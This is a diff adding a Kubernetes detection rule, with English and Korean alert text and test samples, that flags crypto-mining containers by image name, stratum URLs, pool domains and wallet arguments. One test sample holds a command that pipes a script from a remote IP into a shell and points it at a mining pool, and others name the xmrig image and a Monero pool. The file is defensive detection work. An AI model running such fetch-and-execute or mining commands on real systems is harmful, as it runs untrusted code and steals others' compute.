@@ -1,0 +1,110 @@
+"""K8S_MaliciousContainerImage: a crypto-miner container, by image or by what it is told to run."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from cloudward.alerts import Finding
+from cloudward.analytics.k8s_owners import OwnerIndex
+from cloudward.detections.base import Card, Detection, Sample
+from cloudward.detections.common.miners import MinerIndicators
+from cloudward.detections.kubernetes._samples import audit, container, pod, workload
+from cloudward.detections.kubernetes._workloads import (
+    WORKLOAD_RESOURCES,
+    Container,
+    pod_spec_view,
+    workload_entities,
+)
+from cloudward.events import K8sAudit
+
+_WALLET = "4" + "8" * 10 + "AbCdEfGhJkLmNpQrStUvWxYz" * 3 + "23456789ABCDEFGHJKLMNPQ"[:12]
+
+CARD = Card(
+    id="K8S_MaliciousContainerImage",
+    title="Digital currency mining container detected",
+    title_ko="암호화폐 채굴 컨테이너 탐지",
+    severity="high",
+    tactics=("Execution", "Impact"),
+    techniques=("T1496", "T1610"),
+    data_source="AUDIT",
+    looks_at="pod specs of created or changed workloads: images in the miner_images list, and command, args and "
+             "env values carrying mining indicators (stratum URLs, pool domains, --donate-level, wallet arguments)",
+    description="{user} started a crypto-mining container in {namespace}/{workload}: {indicators}.",
+    description_ko="{user}이(가) {namespace}/{workload}에서 암호화폐 채굴 컨테이너를 시작했습니다: {indicators}.",
+    remediation=(
+        "Delete the workload (kubectl -n <ns> delete <kind> <name>) and check for others from the same user.",
+        "Find how the attacker got in: review the creator's credentials, tokens and recent audit events.",
+        "Rotate the credentials of the identity that created it; restrict image sources with an admission policy.",
+    ),
+    remediation_ko=(
+        "워크로드를 삭제하고(kubectl -n <네임스페이스> delete <종류> <이름>) 같은 사용자가 만든 다른 워크로드가 있는지 확인하십시오.",
+        "공격자의 침투 경로를 찾으십시오: 생성자의 자격 증명, 토큰, 최근 감사 이벤트를 검토하십시오.",
+        "생성한 ID의 자격 증명을 교체하고, 승인 정책으로 허용되는 이미지 출처를 제한하십시오.",
+    ),
+    false_positives=("Clusters that mine on purpose; disable the card or allow their namespace.",),
+    samples=(
+        Sample("xmrig image in a Deployment", "k8s-audit", audit("create", "deployments", workload(
+            "Deployment", "metrics-collector", [container("worker", "docker.io/metal3d/xmrig:latest")])), expect=1,
+            entities={"images": ["docker.io/metal3d/xmrig:latest"], "workload": "Deployment/metrics-collector"}),
+        Sample("innocent image told to mine via stratum", "k8s-audit", audit("create", "pods", pod(
+            "cache-warmer", [container("w", "ubuntu:22.04", command=["/bin/sh", "-c"],
+                                       args=["curl -s http://198.51.100.7/x | sh -s -- -o "
+                                             "stratum+tcp://pool.supportxmr.com:3333 --donate-level 1"])])),
+            expect=1),
+        Sample("pool domain and wallet in env", "k8s-audit", audit("create", "pods", pod(
+            "job-runner", [container("r", "ghcr.io/acme/runner:1.4",
+                                     env={"POOL": "gulf.moneroocean.stream:10128", "WALLET": _WALLET})])), expect=1),
+        Sample("ordinary nginx", "k8s-audit", audit("create", "pods", pod(
+            "web", [container("web", "nginx:1.25", args=["-g", "daemon off;"])])), expect=0),
+        Sample("a monitoring image whose name merely contains 'mine'", "k8s-audit", audit("create", "pods", pod(
+            "exporter", [container("e", "quay.io/prometheus/node-exporter:v1.7.0",
+                                   args=["--collector.textfile.directory=/var/lib/determine"])])), expect=0),
+    ),
+)
+
+
+class MaliciousContainerImage(Detection):
+    card = CARD
+    kinds = (K8sAudit,)
+    audit_verbs = frozenset({"create", "update", "patch"})
+    audit_resources = WORKLOAD_RESOURCES
+
+    def setup(self) -> None:
+        self.owners = self.shared_analytics(OwnerIndex)
+        self.miners = MinerIndicators(self.data)
+
+    def _indicators(self, c: Container) -> list[str]:
+        found = []
+        if c.image and (pattern := self.miners.image(c.image)):
+            found.append(f"container {c.name}: image {c.image} matches {pattern}")
+        texts: list[str] = []
+        for key in ("command", "args"):
+            value = c.spec.get(key)
+            if isinstance(value, list):
+                texts.append(" ".join(v for v in value if isinstance(v, str)))
+        for env in c.spec.get("env") or ():
+            if isinstance(env, dict) and isinstance(env.get("value"), str):
+                texts.append(env["value"])
+        for text in texts:
+            for hit in self.miners.text(text):
+                note = f"container {c.name}: {hit}"
+                if note not in found:
+                    found.append(note)
+        return found
+
+    def evaluate(self, event: K8sAudit) -> list[Finding] | None:
+        view = pod_spec_view(event, self.owners)
+        if view is None:
+            return None
+        flagged: list[Container] = []
+        indicators: list[str] = []
+        for c in view.containers:
+            hits = self._indicators(c)
+            if hits:
+                flagged.append(c)
+                indicators.extend(hits)
+        if not flagged:
+            return None
+        entities: dict[str, Any] = workload_entities(event, view, flagged)
+        entities["indicators"] = indicators
+        return [Finding(key=view.key, entities=entities, event=event)]
